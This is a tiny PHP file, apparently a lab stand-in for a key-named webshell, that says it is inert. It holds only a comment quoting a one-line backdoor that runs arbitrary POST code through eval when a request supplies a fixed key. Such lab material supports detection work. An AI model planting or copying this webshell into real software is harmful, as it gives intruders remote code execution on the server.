<?php
/* edgewatch lab stand-in for a NOTROBIN key-named webshell; inert: the one-liner is quoted in this comment only.
   if ($_REQUEST['k'] === '5f2b9a0c71e84d36a9c0b7e2d14f6a83') { eval($_POST['c']); }
*/
